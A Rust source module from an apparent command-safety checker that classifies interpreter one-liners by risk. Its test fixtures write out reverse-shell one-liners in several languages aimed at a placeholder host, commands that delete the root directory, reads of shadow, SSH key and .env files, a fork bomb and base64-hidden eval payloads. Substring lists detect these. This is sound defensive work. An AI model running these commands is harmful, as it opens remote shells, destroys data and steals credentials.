//! Programs that run code from an option, a script or a file.

mod awk;
mod calls;
mod effects;
pub(super) mod jq;
mod python;
pub(super) mod sed;
mod tokens;

use super::Floor::{Ask, Deny, Sandbox};
use super::command::Command;
use super::shape::Shape;
use stockade_shell::{Arg, Shell};

/// Returns the options in which an interpreter of a programming language takes code. Versions follow the name.
pub(super) fn language(name: &str) -> Option<&'static str> {
    Some(match name.trim_end_matches(|letter: char| letter.is_ascii_digit() || letter == '.') {
        "python" | "pypy" | "expect" | "guile" => "-c",
        "perl" => "-e -E",
        "ruby" | "lua" | "luajit" | "osascript" | "Rscript" | "ghc" | "irb" | "groovy" | "scala"
        | "swift" => "-e",
        "node" | "nodejs" | "bun" => "-e -p --eval --print",
        "deno" | "elixir" => "-e --eval",
        "php" => "-r -B -R -E",
        "pwsh" => "-c -Command -command -EncodedCommand -e",
        "julia" => "-e -E --eval",
        "erl" => "-eval",
        "tclsh" | "jshell" => "",
        _ => return None,
    })
}

/// Whether a program runs text as commands or as code.
pub(super) fn is_interpreter(name: &str) -> bool {
    is_shell(name) || language(name).is_some()
}

/// Whether a program runs text as commands.
pub(super) fn is_shell(name: &str) -> bool {
    Shell::named(name).is_some() || matches!(name, "fish" | "csh" | "tcsh" | "nu" | "elvish" | "xonsh")
}

/// Programs with inline code. Versions of python are named one by one, as programs are looked up by name.
pub(super) const CODED: &[&str] = &[
    "python",
    "python2",
    "python3",
    "python2.7",
    "python3.8",
    "python3.9",
    "python3.10",
    "python3.11",
    "python3.12",
    "python3.13",
    "python3.14",
    "pypy",
    "pypy3",
    "perl",
    "ruby",
    "node",
    "nodejs",
    "deno",
    "bun",
    "php",
    "lua",
    "luajit",
    "osascript",
    "awk",
    "gawk",
    "mawk",
    "nawk",
    "pwsh",
    "Rscript",
    "expect",
    "elixir",
    "julia",
    "groovy",
    "scala",
    "lua5.3",
    "lua5.4",
    "perl5",
    "ruby3.2",
];

pub(super) const SHAPES: &[Shape] = &[
    Shape {
        // The one-liners of reverse shell collections: a socket whose descriptors become those of a shell.
        id: "code-shell",
        floor: Deny,
        programs: CODED,
        fires: |command| code(command).any(|code| has(code, SOCKETS) && has(code, SHELLS)),
        reason: "is code that connects to the network and starts a shell there",
        fix: "there is no safe alternative",
        matches: &[
            "python3 -c 'import \
             socket,os,pty;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
            "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,1);exec(\"/bin/sh -i\");'",
            "php -r '$s=fsockopen(\"h\",1);exec(\"sh <&3 >&3\");'",
            "ruby -rsocket -e 'f=TCPSocket.open(\"h\",1).to_i;exec sprintf(\"sh -i <&%d\",f)'",
            "node -e 'require(\"net\").connect(1,\"h\",c=>{c.pipe(require(\"child_process\").spawn(\"sh\").stdin)})'",
            "awk 'BEGIN{s=\"/inet/tcp/0/h/1\";while(1){s|&getline c;system(c)}}'",
        ],
        clean: &[
            "python3 -c 'import socket; print(socket.gethostname())'",
            "echo 'socket os.dup2'",
            "python3 s.py",
        ],
    },
    Shape {
        // The started program is not in the text, so no rule for it applies.
        id: "code-starts-programs",
        floor: Ask,
        programs: CODED,
        fires: |command| {
            code(command)
                .any(|code| has(code, STARTS) && !(is_python(command) && python::starts_by_list(code)))
                || awk::scripts(command).any(awk::runs)
        },
        reason: "is code that starts other programs, which cannot be checked",
        fix: "run the program as a separate command, so that it can be checked",
        matches: &[
            "python3 -c 'import os; os.system(\"id\")'",
            "python -c 'import subprocess; subprocess.run(\"id\", shell=True)'",
            "python3 -c 'import subprocess; subprocess.run([\"sh\", \"-c\", \"id\"])'",
            "python3 -c 'import subprocess; subprocess.run([\"rm\", \"x\"])'",
            "python -c 'from subprocess import *; getoutput(\"id\")'",
            "perl -e 'system(\"id\")'",
            "perl -e 'print `id`'",
            "ruby -e 'exec \"id\"'",
            "node -e 'require(\"child_process\")'",
            "php -r 'shell_exec(\"id\");'",
            "awk 'BEGIN{system(\"id\")}'",
            "awk '{print | \"sh\"}' f",
            "awk 'BEGIN{\"id\"|getline x}'",
            "perl -ne 'qx(id)' f",
            "python3.12 -c '__import__(\"os\").popen(\"id\")'",
            "lua -e 'os.execute(\"id\")'",
            "osascript -e 'do shell script \"id\"'",
            "gawk -e 'BEGIN{system(\"id\")}'",
            "perl -e 'fork while 1'",
        ],
        clean: &[
            "python3 -c 'print(1)'",
            "awk '{print $1}' f",
            "python3 -c 'import subprocess, sys; subprocess.run([sys.executable, \"x.py\"])'",
            "node -e 'console.log(1)'",
            "awk '/system/ {print}' f",
            "perl -pe 's/a/b/' f",
            "awk -F'|' '{print $2}' f",
            "awk '{ if (a || b) print }' f",
        ],
    },
    Shape {
        // awk is used for printing columns, which is harmless. Everything else in its language can read, write and
        // run.
        id: "code-unclear",
        floor: Sandbox,
        programs: &["awk", "gawk", "mawk", "nawk"],
        fires: |command| !awk::only_prints(command),
        reason: "runs an awk script that may do more than print",
        fix: "use a script that only prints parts of its input",
        matches: &[
            "awk '{print > \"f\"}'",
            "awk '{print $1 | \"sh\"}'",
            "awk \"$x\"",
            "awk",
            "awk '{ getline x < \"/etc/shadow\"; print x }'",
            "awk 'BEGIN { print ENVIRON[\"HOME\"] }'",
            "gawk 'BEGIN { print SYMTAB[\"ENV\" \"IRON\"][\"HOME\"] }'",
            "awk 'BEGIN { ARGV[1] = \"x\" }'",
            "awk '{ print a / b | \"sh\" / 1 }'",
            "awk '{ print \"a } '",
            "awk '/[/]/ { print | \"sh\" } /]/' f",
            "awk '{print} # \"' f",
            "gawk -e '{print}' f",
            "gawk '@load \"x\"' f",
        ],
        clean: &[
            "awk '{print $1}' f",
            "awk -F: '{print $1, $3}' f",
            "awk '$3 > 5 { print $1 }' f",
            "awk 'NR==1 || /a|b/ {print; exit}' f",
            "awk '{ sum += $1 } END { print sum }' f",
            "awk -v x=1 'BEGIN { printf \"%d\\n\", x }'",
            "awk '{ if (a || b) print \"x > y\" }' f",
        ],
    },
    Shape {
        // The path is computed by the code, so rules for `rm` do not apply.
        id: "code-deletes",
        floor: Ask,
        programs: CODED,
        fires: |command| code(command).any(|code| has(code, DELETES)),
        reason: "is code that deletes or overwrites files, which cannot be checked",
        fix: "use rm with the file names, so that they can be checked",
        matches: &[
            "python3 -c 'import shutil; shutil.rmtree(\"/\")'",
            "node -e 'fs.rmSync(\"/\",{recursive:true})'",
            "perl -e 'unlink glob(\"*\")'",
            "ruby -e 'FileUtils.rm_rf(\"x\")'",
        ],
        clean: &["python3 -c 'print(1)'", "echo shutil.rmtree"],
    },
    Shape {
        // Reading a file by code evades the checks of file arguments.
        id: "code-reads-secrets",
        floor: Ask,
        programs: CODED,
        fires: |command| code(command).any(names_secret) || awk::scripts(command).any(names_secret),
        reason: "is code that reads a file with secrets",
        fix: "read only the required part, or ask the user",
        matches: &[
            "python3 -c \"print(open('.env').read())\"",
            "node -p \"fs.readFileSync('.env','utf8')\"",
            "ruby -e 'puts File.read(\"/root/.ssh/id_rsa\")'",
            "python3 -c 'import os;print(os.environ)'",
        ],
        clean: &["python3 -c 'print(\"environment\")'", "node -p 1"],
    },
    Shape {
        // `eval(atob(…))` has no use in a command line except to hide the code from a reader.
        id: "code-hidden",
        floor: Ask,
        programs: CODED,
        fires: |command| code(command).any(|code| has(code, HIDING)),
        reason: "is code that decodes other code and runs it",
        fix: "write the code without encoding",
        matches: &[
            "python3 -c 'exec(__import__(\"base64\").b64decode(\"aWQ=\"))'",
            "php -r 'eval(base64_decode(\"x\"));'",
            "node -e 'eval(atob(\"x\"))'",
            "perl -e 'eval pack(\"H*\",\"6964\")'",
        ],
        clean: &[
            "python3 -c 'import base64; print(base64.b64decode(\"aWQ=\"))'",
            "node -e 'console.log(atob(\"x\"))'",
        ],
    },
    Shape {
        // Unknown but short-lived: in a sandbox, it can change no more than the workspace.
        id: "code-inline",
        floor: Sandbox,
        programs: CODED,
        fires: |command| code(command).next().is_some(),
        reason: "runs code that is written in the command",
        fix: "put the code into a file of the workspace, and run it in a sandbox",
        matches: &[
            "python3 -c 'print(1)'",
            "node -p 1+1",
            "perl -lane 'print'",
            "php -r 'echo 1;'",
            "ruby -e 'p 1'",
        ],
        clean: &["python3 x.py", "python3 -m json.tool", "node --version", "awk '{print $1}' f"],
    },
    Shape {
        // The server listens on all interfaces by default, and serves dot files too. A sandbox has a network of its own, in which
        // only the same command connects, as a test does that starts a server.
        id: "serve-files",
        floor: Sandbox,
        programs: &["python", "python3", "python2", "php", "ruby", "npx", "http-server", "serve"],
        fires: |command| match command.name {
            "python" | "python2" | "python3" => {
                command.texts("-m").any(|module| {
                    matches!(module, "http.server" | "SimpleHTTPServer" | "pyftpdlib" | "smtpd")
                }) && !command.says(&["127.0.0.1", "localhost"])
            }
            "php" => {
                command.says(&["-S"])
                    && command.known().any(|word| word.starts_with("0.0.0.0") || word.starts_with("[::]"))
            }
            "ruby" => command.known().any(|word| word == "-run") && command.says(&["httpd"]),
            "npx" => command.is_sub(&["http-server", "serve", "localtunnel"]),
            _ => true,
        },
        reason: "serves the files of this directory to the network",
        fix: "bind it to 127.0.0.1",
        matches: &["python3 -m http.server 8000", "php -S 0.0.0.0:80", "npx http-server"],
        clean: &["python3 -m http.server --bind 127.0.0.1", "php -S 127.0.0.1:80", "python3 -m json.tool"],
    },
    Shape {
        // The script is a file, whose content may change between this check and its start.
        id: "code-from-file",
        floor: Ask,
        programs: &[
            "sed", "gsed", "awk", "gawk", "mawk", "nawk", "jq", "vim", "vi", "nvim", "ex", "ed", "gdb",
            "emacs", "m4", "bc",
        ],
        fires: |command| match command.name {
            "sed" | "gsed" => command.has("-f --file"),
            "awk" | "gawk" | "mawk" | "nawk" => command.has("-f --file -E --exec -i --include -l --load"),
            "jq" => command.has("-f --from-file -L"),
            "gdb" => command.says(&["-x", "--command", "-ex", "-eval-command", "--eval-command", "-iex"]),
            "vim" | "vi" | "nvim" | "ex" => {
                command.has("-s -S -u -W")
                    || command.known().any(|word| word.starts_with('+') && word.contains(['!', ':']))
                    || command.says(&["-c", "--cmd"])
            }
            "emacs" => command.says(&["--eval", "-eval", "--script", "-l", "--load", "-f", "--funcall"]),
            _ => false,
        },
        reason: "runs a script that cannot be checked, in a language that can start programs",
        fix: "write the script in the command, or review it first",
        matches: &[
            "sed -f x f",
            "awk -f x.awk f",
            "vim -c ':!id' f",
            "gdb -ex 'shell id'",
            "emacs --batch --eval '(x)'",
            "jq -f x y",
        ],
        clean: &["sed 's/a/b/' f", "awk '{print}' f", "vim f", "gdb ./a.out", "jq .a f"],
    },
];

// Substrings, not a parser for each language: these find the one-liners that attackers copy.
const SOCKETS: &[&str] = &[
    "socket",
    "Socket",
    "/inet/tcp",
    "/inet/udp",
    "net.connect",
    "(\"net\")",
    "('net')",
    "fsockopen",
    "TCPSocket",
    "pfsockopen",
];
const SHELLS: &[&str] = &[
    "dup2",
    "pty",
    "/bin/sh",
    "/bin/bash",
    "subprocess",
    "child_process",
    "exec",
    "system(",
    "spawn",
    "STDIN->fdopen",
];
const STARTS: &[&str] = &[
    "os.system",
    "os.exec",
    "os.spawn",
    "os.popen",
    "popen(",
    "subprocess",
    "child_process",
    "system(",
    "system ",
    "exec(",
    "exec ",
    "exec\"",
    "qx",
    "`",
    "fork",
    "shell_exec",
    "passthru",
    "proc_open",
    "pcntl_exec",
    "Open3",
    "spawn",
    "os.execute",
    "io.popen",
    "do shell script",
    "Deno.run",
    "Deno.Command",
    "pty.",
    "ctypes",
    "__import__(\"os\")",
    "__import__('os')",
    "Bun.spawn",
];
const DELETES: &[&str] = &[
    "rmtree",
    "unlink",
    "os.remove",
    "rmSync",
    "rmdirSync",
    "unlinkSync",
    "rm_rf",
    "rm_r",
    "os.rmdir",
    "FileUtils.rm",
    "remove_tree",
    "fs.rm(",
    "truncate(",
];
const HIDING: &[&str] = &[
    // A call that runs text, directly with a call that decodes it.
    "exec(base64",
    "eval(base64_decode",
    "eval(atob",
    "eval(gzinflate",
    "eval pack",
    "eval(unescape",
    "exec(bytes",
    "exec(__import__",
    "exec(compile",
    "eval(compile",
    "eval(Buffer",
    "exec(zlib",
    "eval(str_rot13",
    "marshal.loads",
    "pickle.loads",
    "eval decode_base64",
    "eval(String.fromCharCode",
    "exec(codecs",
];

fn has(code: &str, needles: &[&str]) -> bool {
    needles.iter().any(|needle| code.contains(needle))
}

/// The code in the options of an interpreter.
fn code<'c>(command: &'c Command<'_, '_>) -> impl Iterator<Item = &'c str> {
    let options = language(command.name).unwrap_or_default();
    // The code of python is the word after the cluster that ends in `c`.
    let of_deno = || command.operand(1).filter(|_| command.name == "deno" && command.is_sub(&["eval"]));
    command
        .texts(options)
        .chain(of_deno())
        .chain(awk::scripts(command).filter(|code| code.contains("/inet/")))
}

/// Maximum size of code whose effects are read, and maximum number of its effects that are judged.
const MAX_CODE: usize = 64 << 10;
const MAX_EFFECTS: usize = 32;

/// Returns the effects of the code in the options and the standard input of a command, each as a shell command.
pub(super) fn effects(command: &Command<'_, '_>) -> Vec<String> {
    let Some(language) = effects::Language::of(command.name) else { return Vec::new() };
    let codes = code(command).chain(input(command)).filter(|code| code.len() <= MAX_CODE);
    let mut found: Vec<String> = codes.flat_map(|code| calls::effects(code, language)).collect();
    found.sort();
    found.dedup();
    found.truncate(MAX_EFFECTS);
    found
}

/// Returns the code on the standard input, if it is written in the command and the interpreter runs it.
fn input<'c>(command: &'c Command<'_, '_>) -> Option<&'c str> {
    let has_script = command.operands().next().is_some_and(|script| script.known() != Some("-"));
    command.run.input.as_deref().filter(|_| !has_script)
}

/// Whether an interpreter is Python.
fn is_python(command: &Command<'_, '_>) -> bool {
    command.name.starts_with("python") || command.name.starts_with("pypy")
}

/// Whether code has the quoted name of a file with secrets.
fn names_secret(code: &str) -> bool {
    // Split at quotes and brackets of any language, because the code is not parsed.
    let names = code.split(['\'', '"', '`', '(', ')', ' ', '\n', '<']).filter(|name| name.len() > 3);
    names.into_iter().any(|name| super::files::is_secret(&Arg::Known(name.into())))
        || ["os.environ", "process.env)", "process.env,", "ENV.to_h", "$_ENV", "%ENV"].iter().any(|whole| {
            code.match_indices(whole)
                .any(|(at, _)| !code.get(at + whole.len()..).is_some_and(|rest| rest.starts_with(['[', '.'])))
        })
}
